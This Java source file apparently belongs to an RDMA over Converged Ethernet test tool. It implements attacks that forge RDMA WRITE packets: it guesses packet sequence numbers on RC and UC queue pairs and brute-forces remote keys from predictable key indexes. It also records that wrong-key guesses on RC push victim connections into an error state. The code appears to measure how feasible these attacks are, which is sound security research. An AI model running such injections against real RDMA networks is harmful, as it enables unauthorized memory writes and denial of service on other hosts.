package io.roce.tools.sweep;

import io.roce.nic.qp.QpType;
import io.roce.nic.stats.Fate;
import io.roce.tools.qp.QpPlan;
import io.roce.wire.Psn;
import io.roce.wire.Qpn;
import io.roce.wire.opcode.Opcode;
import io.roce.wire.packet.PacketField;
import io.roce.wire.packet.RocePacketBuilder;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** Attacks on what the transport asks, by RDMA WRITEs from the peer's address: PSN and key. */
final class MemoryAttacks
{
    private static final int PSN_BITS = 24;
    private static final int KEY_BITS = 8;

    /** Of a key, over one RC connection. */
    private static final int GUESSES = 16;

    private final Ground ground;

    MemoryAttacks(final Ground ground)
    {
        this.ground = ground;
    }

    AttackResult psnRc() throws IOException
    {
        final Volleys volleys = ground.volleys();
        final long count = 1L << ground.unknownBits();
        return volleys.result(
            Attack.PSN_RC,
            psn(volleys, QpType.RC, Opcode.RC_RDMA_WRITE_ONLY, Volleys.volley(count)),
            Arithmetic.ofGuessing(ground.unknownBits(), PSN_BITS, ground.victims()),
            "the window has one PSN that executes; the 2^23 behind it are answered as duplicates, and the first " +
                "ahead with a NAK");
    }

    AttackResult psnUc() throws IOException
    {
        final Volleys volleys = ground.volleys();
        return volleys.result(
            Attack.PSN_UC,
            psn(volleys, QpType.UC, Opcode.UC_RDMA_WRITE_ONLY, 1),
            Arithmetic.ofFirst(ground.victims()),
            "the first packet of a message brings its own PSN: there is nothing to guess");
    }

    private List<Long> psn(final Volleys volleys, final QpType type, final Opcode opcode, final long volley)
        throws IOException
    {
        final List<Long> tries = new ArrayList<>();
        for (int i = 0; i < ground.victims(); i++)
        {
            final Victims.Region region = ground.memory().register();
            final int ePsn = ground.random().nextInt(Qpn.MASK + 1);
            final int victim = ground.served(type, ground.plan(type, ePsn));
            final Ground.Order order = ground.order(ground.unknownBits());
            final long block = ePsn & ~order.mask();
            final RocePacketBuilder packet = ground.write(opcode, victim, region);
            tries.add(volleys.untilWritten(
                packet,
                index -> packet.set(PacketField.PSN, block | order.at(index)).payload(Ground.payload(index)),
                order.mask() + 1,
                volley,
                () -> ground.memory().written(region)));
            ground.owned().destroy(victim);
        }
        return tries;
    }

    /** The attacker has registered memory just before, and knows the rest of the connection. */
    AttackResult rKeyUc() throws IOException
    {
        final Volleys volleys = ground.volleys();
        final List<Long> tries = new ArrayList<>();
        for (int i = 0; i < ground.victims(); i++)
        {
            final long index = nextIndex(ground.memory().register());
            final Victims.Region region = ground.memory().register();
            final int victim = ground.served(QpType.UC, ground.plan(QpType.UC, 0));
            final Ground.Order order = ground.order(KEY_BITS);
            final RocePacketBuilder packet = ground.write(Opcode.UC_RDMA_WRITE_ONLY, victim, region);
            tries.add(volleys.untilWritten(
                packet,
                guess -> packet.set(PacketField.R_KEY, index | order.at(guess)).payload(Ground.payload(guess)),
                1L << KEY_BITS,
                Volleys.volley(1L << KEY_BITS),
                () -> ground.memory().written(region)));
            ground.owned().destroy(victim);
        }
        return volleys.result(Attack.RKEY_UC, tries, Arithmetic.ofGuessing(KEY_BITS, Integer.SIZE, ground.victims()),
            "indexes follow each other, so that 8 random bits are left, and UC drops what is wrong and goes on");
    }

    AttackResult rKeyRc() throws IOException
    {
        final Volleys volleys = ground.volleys();
        final List<Long> tries = new ArrayList<>();
        for (int i = 0; i < ground.victims() && volleys.mayGoOn(GUESSES); i++)
        {
            final long index = nextIndex(ground.memory().register());
            final Victims.Region region = ground.memory().register();
            final QpPlan plan = ground.plan(QpType.RC, 0);
            final int victim = ground.served(QpType.RC, plan);
            final Ground.Order order = ground.order(KEY_BITS);
            final RocePacketBuilder packet = ground.write(Opcode.RC_RDMA_WRITE_ONLY, victim, region);
            volleys.send(
                packet,
                guess -> packet
                    .set(PacketField.R_KEY, index | order.at(guess))
                    .set(PacketField.PSN, Psn.add(plan.rqPsn(), (int)guess))
                    .payload(Ground.payload(guess)),
                0,
                GUESSES);
            tries.add(ground.memory().written(region));
            ground.owned().destroy(victim);
        }
        final long killed = volleys.count(Fate.NAK_REMOTE_ACCESS);
        return volleys.result(
            Attack.RKEY_RC,
            tries,
            Arithmetic.ofChance(Math.scalb(1.0, -KEY_BITS), tries.size()),
            killed + " of " + tries.size() + " connections went to ERR at a wrong key: one guess each, and a way " +
                "to end them");
    }

    private static long nextIndex(final Victims.Region own)
    {
        return (own.key() >>> KEY_BITS) + 1 << KEY_BITS;
    }
}
